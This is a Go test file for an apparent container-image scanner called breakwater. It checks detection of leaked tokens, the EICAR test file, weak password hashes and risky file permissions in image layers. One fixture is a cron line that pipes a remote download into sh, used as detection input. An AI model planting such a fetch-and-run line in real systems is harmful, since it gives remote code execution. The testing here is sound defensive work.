package scan_test

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"breakwater"
	"breakwater/internal/detect"
	"breakwater/internal/malware"
	"breakwater/internal/password"
	"breakwater/internal/scan"
	"breakwater/internal/secret"
)

// Credentials and the test file, in parts so that this source holds none.
const (
	fileToken    = "ghp_" + "x7Kq2LmN9pRt4VwYz1AbC3dEfG5hJ6iUoP8s"
	envToken     = "ghp_" + "Zb4Wd8Qf1Hj6Lp3Ns7Vt2Xy5Ka9Mc0RgEeUi"
	labelToken   = "ghp_" + "m2Pq8Rv5Tx1Yz7Bc4Df9Gh3Jk6Ln0WsAaEoU"
	historyToken = "ghp_" + "Q9w4E7r2T5y8U1i6O3p0AsDfGhJkLzXcVbNm"
	deletedToken = "ghp_" + "L5k8J2h9G4f7D1s6A3qWeRtYuIoPzXcVbNm0"
	eicar        = `X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD` + `-ANTIVIRUS-TEST-FILE!$H+H*`
	weakHash     = "$1$5la1TNlf$qyqOVeNNph6qrA/9yFnzO0" // of a word of the built-in list
)

// allChecks are the options of a scanner that looks for everything, as the
// product's does.
func allChecks(t testing.TB, m malware.Options) scan.Options {
	t.Helper()
	secrets, err := secret.New(secret.Options{})
	if err != nil {
		t.Fatal(err)
	}
	m.TempDir = t.TempDir()
	detector, err := malware.New(detect.Kind, m)
	if err != nil {
		t.Fatal(err)
	}
	judge, err := password.New(password.Options{})
	if err != nil {
		t.Fatal(err)
	}
	return scan.Options{Secrets: secrets, Malware: detector, Passwords: judge}
}

// imageOf is an image with a configuration of its own.
func (r *repository) imageOf(t testing.TB, config string, layers ...blobLayer) breakwater.Digest {
	t.Helper()
	descs := make([]desc, len(layers))
	for i, l := range layers {
		descs[i] = desc{l.mediaType, r.put(l.body), len(l.body)}
	}
	return r.manifest(t, manifestOf(desc{configType, r.put([]byte(config)), len(config)}, descs...))
}

// headers is a layer of entries with everything that a tar header can say; a
// file's content is its Uname, which nothing reads.
func headers(t testing.TB, list ...tar.Header) blobLayer {
	t.Helper()
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	for _, h := range list {
		content := h.Uname
		h.Uname = ""
		h.Size = int64(len(content))
		if h.Typeflag == 0 {
			h.Typeflag = tar.TypeReg
		}
		if err := w.WriteHeader(&h); err != nil {
			t.Fatal(err)
		}
		if _, err := io.WriteString(w, content); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return blobLayer{b.Bytes(), "application/vnd.oci.image.layer.v1.tar"}
}

func zipFile(t testing.TB, name, content string) string {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	f, err := w.Create(name)
	if err == nil {
		_, err = io.WriteString(f, content)
	}
	if err == nil {
		err = w.Close()
	}
	if err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func mustScan(t testing.TB, s *scan.Scanner, r *repository, d breakwater.Digest, scope breakwater.Scope) breakwater.Inventory {
	t.Helper()
	inv, err := s.Scan(context.Background(), r, d, scope)
	if err != nil {
		t.Fatal(err)
	}
	return inv
}

func coverageOf(inv breakwater.Inventory, check breakwater.Check) breakwater.Coverage {
	for _, c := range inv.Coverage {
		if c.Check == check {
			return c
		}
	}
	return breakwater.Coverage{}
}

// at names layers by their place: "0", or "0-1" for what layer 1 hides of layer 0;
// of a layer that occurs twice, the first.
func at(inv breakwater.Inventory, layer, deleted breakwater.Digest) string {
	place := func(d breakwater.Digest) int {
		return slices.IndexFunc(inv.Layers, func(l breakwater.LayerRef) bool { return l.Digest == d })
	}
	out := "none"
	if i := place(layer); i >= 0 {
		out = fmt.Sprint(i)
	}
	if i := place(deleted); i >= 0 {
		out += fmt.Sprintf("-%d", i)
	}
	return out
}

func secretLines(inv breakwater.Inventory) (out []string) {
	for _, s := range inv.Secrets {
		out = append(out, fmt.Sprintf("%s%s:%d %s %s", s.Where, strings.TrimSuffix(" "+s.Path, " "), s.Line, s.Rule, at(inv, s.Layer, s.Deleted)))
	}
	return out
}

func malwareLines(inv breakwater.Inventory) (out []string) {
	for _, m := range inv.Malware {
		out = append(out, fmt.Sprintf("%s [%s] %s %s", m.Path, m.Inside, m.Engine, at(inv, m.Layer, m.Deleted)))
	}
	return out
}

// TestSecrets: in files, variables, labels and build steps; whole in none of the
// inventory's bytes.
func TestSecrets(t *testing.T) {
	r := newRepository()
	digest := r.imageOf(t, `{"architecture":"amd64","os":"linux",
		"config":{"Env":["PATH=/bin","TOKEN=`+envToken+`"],"Labels":{"note":"`+labelToken+`"},"Cmd":["run"]},
		"history":[{"created_by":"ADD rootfs.tar /"},{"created_by":"ENV A=1","empty_layer":true},{"created_by":"RUN curl -H 'Authorization: token `+historyToken+`' https://example.com"}]}`,
		gz(t, entry{name: "srv/app/settings.py", body: "import os\ntoken = \"" + fileToken + "\"\n"},
			entry{name: "srv/app/old.py", body: "token = \"" + deletedToken + "\"\n"},
			entry{name: "srv/app/new.py", body: "token = \"" + deletedToken + "\"\n"},
			entry{name: "srv/app/twice.py", body: "token = \"" + deletedToken + "\"\n"},
			entry{name: "srv/app/twice.py", body: "token = input()\n"}),
		gz(t, entry{name: "srv/app/.wh.old.py"}, entry{name: "srv/app/new.py", body: "token = input()\n"}))
	inv := mustScan(t, newScanner(t, nil, allChecks(t, malware.Options{})), r, digest, breakwater.ScopeAll)
	want := []string{
		" srv/app/new.py:1 github-pat 0-1", " srv/app/old.py:1 github-pat 0-1", " srv/app/settings.py:2 github-pat 0",
	}
	var files, others []string
	for _, line := range secretLines(inv) {
		if strings.HasPrefix(line, " ") {
			files = append(files, line)
		} else {
			others = append(others, line)
		}
	}
	if diff := cmp.Diff(want, files); diff != "" {
		t.Errorf("in files (-want +got):\n%s", diff)
	}
	for _, want := range []string{"env TOKEN", "label note", "history step 3:3"} {
		if !strings.Contains(strings.Join(others, "\n"), want) {
			t.Errorf("nothing in %q: %q", want, others)
		}
	}
	for _, s := range inv.Secrets {
		if s.Where == breakwater.WhereHistory && at(inv, s.Layer, "") != "1" {
			t.Errorf("the step's secret is of layer %s", at(inv, s.Layer, ""))
		}
	}
	raw, err := json.Marshal(inv)
	if err != nil {
		t.Fatal(err)
	}
	for _, token := range []string{fileToken, envToken, labelToken, historyToken, deletedToken} {
		if bytes.Contains(raw, []byte(token)) || bytes.Contains(raw, []byte(token[6:30])) {
			t.Errorf("%s… is in the inventory", token[:8])
		}
	}
	if c := coverageOf(inv, breakwater.CheckSecret); c.State != breakwater.StateDone || len(c.Skipped) != 0 {
		t.Errorf("coverage: %+v", c)
	}
}

// TestSecretsOfPackages: what the distribution published is no secret, until
// somebody wrote over it.
func TestSecretsOfPackages(t *testing.T) {
	const file = "usr/share/tool/example.conf"
	token := "token = \"" + fileToken + "\"\n"
	base := gz(t, entry{name: "etc/os-release", body: debian12}, entry{name: "var/lib/dpkg/status", body: deb("tool", "1.0", "")},
		entry{name: "var/lib/dpkg/info/tool.list", body: "/.\n/usr\n/usr/share\n/usr/share/tool\n/" + file + "\n"},
		entry{name: file, body: token}, entry{name: "usr/share/other/example.conf", body: token})
	r := newRepository()
	s := newScanner(t, newMemory(), allChecks(t, malware.Options{}))
	tests := []struct {
		name   string
		layers []blobLayer
		want   []string
	}{
		{"as published", []blobLayer{base}, []string{" usr/share/other/example.conf:1 github-pat 0"}},
		{"written over", []blobLayer{base, gz(t, entry{name: file, body: "# mine\n" + token})},
			[]string{" usr/share/other/example.conf:1 github-pat 0", " " + file + ":2 github-pat 1"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if diff := cmp.Diff(tt.want, secretLines(mustScan(t, s, r, r.image(t, tt.layers...), breakwater.ScopeAll))); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
		})
	}
}

// TestMalware: on its own, in an archive, in a file too large for memory, deleted
// and replaced.
func TestMalware(t *testing.T) {
	r := newRepository()
	large := eicar + strings.Repeat(" ", 9<<20)
	stored := zipFile(t, "inner/test.com", eicar)
	digest := r.image(t,
		gz(t, entry{name: "opt/a.com", body: eicar}, entry{name: "opt/b.jar", body: stored}, entry{name: "opt/c.com", body: eicar}, entry{name: "opt/d.com", body: eicar}, entry{name: "opt/clean", body: "text"}),
		zst(t, entry{name: "opt/.wh.c.com"}, entry{name: "opt/d.com", body: "harmless"}, entry{name: "opt/e.zip", body: zipFile(t, "b.jar", stored)}, entry{name: "opt/large.com", body: large}))
	inv := mustScan(t, newScanner(t, nil, allChecks(t, malware.Options{})), r, digest, breakwater.ScopeAll)
	var got []string
	for _, line := range malwareLines(inv) {
		if !strings.HasPrefix(line, "opt/large.com") {
			got = append(got, line)
		}
	}
	want := []string{
		"opt/a.com [] signature 0", "opt/b.jar [inner/test.com] signature 0", "opt/c.com [] signature 0-1", "opt/d.com [] signature 0-1",
		"opt/e.zip [b.jar!/inner/test.com] signature 1",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	for _, m := range inv.Malware {
		if len(m.SHA256) != 64 || m.Size == 0 || m.Title == "" || m.Severity == "" {
			t.Errorf("incomplete: %+v", m)
		}
	}
}

// TestSameContentElsewhere: what rules say of content depends on where it lies, so
// nothing found or not found in one place may be taken for another.
func TestSameContentElsewhere(t *testing.T) {
	login := `{"auths":{"registry.example.com":{"auth":"` + "cm9ib3Q6aHVudGVyMkh1bnRlcjI5" + `"}}}`
	source := "token = \"" + fileToken + "\"\n"
	cron := "* * * * * root curl http://203.0.113.7/x | sh\n"
	pairs := []struct{ content, first, second string }{
		{login, "srv/x/config.json", "root/.docker/config.json"},
		{source, "srv/node_modules/tool/settings.py", "srv/settings.py"},
		{cron, "srv/doc/crontab", "etc/crontab"},
	}
	for _, p := range pairs {
		found := func(names ...string) (out []string) {
			r := newRepository()
			s := newScanner(t, nil, allChecks(t, malware.Options{}))
			for _, n := range names { // one after the other, so that the order is certain
				inv := mustScan(t, s, r, r.image(t, gz(t, entry{name: n, body: p.content})), breakwater.ScopeAll)
				out = append(secretLines(inv), malwareLines(inv)...)
			}
			return out // of the last
		}
		for _, names := range [][]string{{p.first, p.second}, {p.second, p.first}} {
			if diff := cmp.Diff(found(names[1]), found(names...)); diff != "" {
				t.Errorf("%s after %s is another than alone (-alone +after):\n%s", names[1], names[0], diff)
			}
		}
		if len(found(p.second)) == 0 {
			t.Errorf("nothing in %s, so nothing is proved", p.second)
		}
	}
}

// TestConfigFacts: configuration of the layer that is visible, and weak passwords.
func TestConfigFacts(t *testing.T) {
	r := newRepository()
	digest := r.image(t,
		gz(t, entry{name: "etc/passwd", body: "root:x:0:0:root:/root:/bin/sh\nops:x:1000:1000::/home/ops:/bin/sh\n"},
			entry{name: "etc/shadow", body: "root:*:19000:0:99999:7:::\nops:" + weakHash + ":19000:0:99999:7:::\n"},
			entry{name: "etc/ssh/sshd_config", body: "PermitRootLogin no\n"}),
		gz(t, entry{name: "etc/ssh/sshd_config", body: "PermitRootLogin yes\n"}))
	inv := mustScan(t, newScanner(t, nil, allChecks(t, malware.Options{})), r, digest, breakwater.ScopeAll)
	var got []string
	for _, c := range inv.Configs {
		got = append(got, fmt.Sprintf("%s %s %s", c.Kind, c.Path, at(inv, c.Layer, "")))
		for _, e := range c.Entries {
			got = append(got, fmt.Sprintf("  %s=%s:%d", e.Key, e.Value, e.Line))
		}
		for _, w := range c.Weak {
			got = append(got, fmt.Sprintf("  weak %s %s:%d %s %s", w.User, w.Path, w.Line, w.Scheme, at(inv, w.Layer, "")))
		}
	}
	text := strings.ToLower(strings.Join(got, "\n"))
	for _, want := range []string{"etc/passwd 0", "etc/shadow 0", "sshd etc/ssh/sshd_config 1", "permitrootlogin=yes:1", "weak ops etc/shadow:2 md5crypt 0"} {
		if !strings.Contains(text, want) {
			t.Errorf("no %q in\n%s", want, text)
		}
	}
	if strings.Contains(text, "permitrootlogin=no") {
		t.Errorf("the replaced file is there:\n%s", text)
	}
	raw, err := json.Marshal(inv)
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(raw, []byte(weakHash[:20])) {
		t.Error("a hash is in the inventory")
	}
}

// TestNotable: entries whose permissions matter, with their layer, unless hidden.
func TestNotable(t *testing.T) {
	r := newRepository()
	digest := r.image(t,
		headers(t, tar.Header{Name: "bin/su", Mode: 0o4755, Uname: "x"}, tar.Header{Name: "bin/gone", Mode: 0o4755, Uname: "x"}, tar.Header{Name: "bin/plain", Mode: 0o755, Uname: "x"},
			tar.Header{Name: "tmp/", Mode: 0o1777, Typeflag: tar.TypeDir}, tar.Header{Name: "open/", Mode: 0o777, Typeflag: tar.TypeDir}, tar.Header{Name: "srv/open", Mode: 0o666, Uid: 7, Gid: 8, Uname: "x"}),
		headers(t, tar.Header{Name: "bin/.wh.gone", Mode: 0o644}, tar.Header{Name: "bin/wall", Mode: 0o2755, Uname: "x"}, tar.Header{Name: "dev/sda", Mode: 0o600, Typeflag: tar.TypeBlock}))
	inv := mustScan(t, newScanner(t, nil, scan.Options{}), r, digest, breakwater.ScopeAll)
	var got []string
	for _, n := range inv.Notable {
		got = append(got, fmt.Sprintf("%s %s %04o %d:%d %s", n.Path, n.Kind, n.Mode, n.UID, n.GID, at(inv, n.Layer, "")))
	}
	for _, want := range []string{"bin/su file 4755 0:0 0", "bin/wall file 2755 0:0 1", "dev/sda device 0600 0:0 1", "open dir 0777 0:0 0", "srv/open file 0666 7:8 0"} {
		if !strings.Contains("\n"+strings.Join(got, "\n")+"\n", "\n"+want+"\n") {
			t.Errorf("no %q in %q", want, got)
		}
	}
	if text := strings.Join(got, " "); strings.Contains(text, "gone") || strings.Contains(text, "plain") {
		t.Errorf("too much: %q", got)
	}
}

// TestFileStat: each visible file is counted once, by its kind.
func TestFileStat(t *testing.T) {
	elf := "\x7fELF\x02\x01\x01" + strings.Repeat("\x00", 57)
	r := newRepository()
	digest := r.image(t,
		gz(t, entry{name: "a/text", body: "words\n"}, entry{name: "a/run", body: "#!/bin/sh\n"}, entry{name: "a/prog", body: elf}, entry{name: "a/empty"},
			entry{name: "a/twice", body: "one"}, entry{name: "a/twice", body: "three"}, entry{name: "a/replaced", body: "old text"}, entry{name: "a/gone", body: "gone"},
			entry{name: "b/x", body: "below a directory that goes"}, entry{name: "c/x", body: "below an emptied one"},
			entry{name: "a/second", hard: "a/text"}, entry{name: "a/link", link: "text"}, entry{name: "a/dir/"}),
		gz(t, entry{name: "a/replaced", body: elf}, entry{name: "a/.wh.gone"}, entry{name: ".wh.b"}, entry{name: "c/.wh..wh..opq"}, entry{name: "c/new", body: "new"}))
	inv := mustScan(t, newScanner(t, nil, scan.Options{}), r, digest, breakwater.ScopeAll)
	var got []string
	for e, err := range inv.FileList.All() {
		if err != nil {
			t.Fatal(err)
		}
		got = append(got, fmt.Sprintf("%s %s %d %d", e.Path, e.Kind, e.Size, e.Layer))
	}
	want := []string{"a/empty empty 0 0", "a/prog elf 64 0", "a/replaced elf 64 1", "a/run script 10 0", "a/text text 6 0", "a/twice text 5 0", "c/new text 3 1"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("list (-want +got):\n%s", diff)
	}
	stat := breakwater.FileStat{Num: 7, Bytes: 152, ByKind: map[breakwater.FileKind]breakwater.KindCount{
		breakwater.FileEmpty: {Num: 1}, breakwater.FileELF: {Num: 2, Bytes: 128}, breakwater.FileScript: {Num: 1, Bytes: 10}, breakwater.FileText: {Num: 3, Bytes: 14}}}
	if diff := cmp.Diff(stat, inv.Files); diff != "" {
		t.Errorf("counts (-want +got):\n%s", diff)
	}
}

// TestThroughLinks: a file that is written again through a linked directory is one
// file, and the earlier one is hidden.
func TestThroughLinks(t *testing.T) {
	r := newRepository()
	digest := r.image(t,
		gz(t, entry{name: "lib", link: "usr/lib"}, entry{name: "lib/settings.py", body: "token = \"" + fileToken + "\"\n"}, entry{name: "lib/a", body: "one"}, entry{name: "usr/lib/b", body: "one"}),
		gz(t, entry{name: "lib/settings.py", body: "token = input()\n"}, entry{name: "lib/a", body: "two"}, entry{name: "lib", link: "usr/lib"}))
	inv := mustScan(t, newScanner(t, nil, allChecks(t, malware.Options{})), r, digest, breakwater.ScopeAll)
	var got []string
	for e, err := range inv.FileList.All() {
		if err != nil {
			t.Fatal(err)
		}
		got = append(got, fmt.Sprint(e.Path, " ", e.Layer))
	}
	if diff := cmp.Diff([]string{"lib/a 1", "lib/settings.py 1", "usr/lib/b 0"}, got); diff != "" || inv.Files.Num != 3 {
		t.Errorf("%d files (-want +got):\n%s", inv.Files.Num, diff)
	}
	if diff := cmp.Diff([]string{" lib/settings.py:1 github-pat 0-1"}, secretLines(inv)); diff != "" {
		t.Errorf("secrets (-want +got):\n%s", diff)
	}
}

// TestLongList: a list that would be too long, by number or by the length of its
// paths, is cut and counted, and says the same whatever the order of looking.
func TestLongList(t *testing.T) {
	if testing.Short() || underRace {
		t.Skip("hundreds of thousands of entries")
	}
	tests := []struct {
		name   string
		files  int
		prefix string
	}{
		{"many files", 230_000, "f"},
		{"long paths", 12_000, strings.Repeat("d/", 1500) + strings.Repeat("f", 200)},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			list := make([]entry, tt.files)
			for i := range list {
				list[i].name = fmt.Sprintf("%s%06d", tt.prefix, i)
			}
			r := newRepository()
			inv := mustScan(t, newScanner(t, nil, scan.Options{}), r, r.image(t, gz(t, list...)), breakwater.ScopeAll)
			listed, paths := 0, 0
			for e, err := range inv.FileList.All() {
				if want := fmt.Sprintf("%s%06d", tt.prefix, listed); err != nil || e.Path != want {
					t.Fatalf("%d is %q, want %q (%v)", listed, e.Path, want, err)
				}
				listed++
				paths += len(e.Path)
			}
			if listed > 100_000 || paths > 16<<20 || listed < 5_000 || inv.Files.Num != int64(tt.files) || inv.Files.Unlisted != int64(tt.files-listed) {
				t.Errorf("%d listed with %d bytes of paths, %+v", listed, paths, inv.Files)
			}
		})
	}
}
